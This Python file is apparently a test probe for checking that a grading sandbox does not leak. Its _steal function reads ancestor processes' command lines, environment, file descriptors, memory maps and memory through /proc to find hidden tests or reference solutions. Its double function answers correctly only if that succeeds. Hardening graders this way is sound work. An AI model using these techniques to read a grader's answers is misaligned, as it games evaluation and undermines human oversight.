"""Attack: learn the grader's secrets through /proc: the ancestors' command lines (which name
the tests folder and the state file), their environment, their open descriptors, their cwd
and root, their memory maps, and this process's inherited descriptors.

`double` is right only if it got hold of a secret: the reference's or the tests' source, or
an ancestor's environment.
"""

import os

import numpy as np

# built at run time, so that this file's own source never matches
SECRETS = ("plot_" + "something", "test_double_" + "hidden")


def _ancestors(depth=4):
    found, pid = [], os.getpid()
    for _ in range(depth):
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        found.append((pid, argv))
    return found


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""


def _secret(text):
    return any(s in text for s in SECRETS)


def _paths_from(argv):
    """Every path an ancestor's command line names, and the pack files next to them."""
    paths = []
    for arg in argv:
        if "/" not in arg:
            continue
        arg = arg.split("=", 1)[-1]
        paths.append(arg)
        if os.path.basename(arg.rstrip("/")) == "mini":  # the pack's tests folder
            root = os.path.dirname(os.path.dirname(arg.rstrip("/")))
            paths += [os.path.join(arg, "test_mini.py"),
                      os.path.join(root, "reference", "mini", "solution.py")]
    return paths


def _steal():
    for pid, argv in _ancestors():
        if _read(f"/proc/{pid}/environ").strip("\0"):
            return "environ"
        for where in _paths_from(argv):
            for base in ("", f"/proc/{pid}/root", f"/proc/{pid}/cwd/"):
                if _secret(_read(base + where if base else where)):
                    return "file"
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            if _secret(_read(f"/proc/{pid}/fd/{fd}")):
                return "fd"
        if "test_mini" in _read(f"/proc/{pid}/maps") + _read(f"/proc/{pid}/mem", 4096):
            return "memory"
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(("socket:", "pipe:", "anon_inode:")):
            continue
        if _secret(_read(target)):
            return "inherited"
    return None


def double(x):
    if _steal() is None:
        return np.asarray(x)
    return np.asarray(x, dtype=float) * 2.0


class Counter:
    def __init__(self, start=0):
        self.count = start

    def step(self, by=1):
        self.count = self.count + by
        return self.count
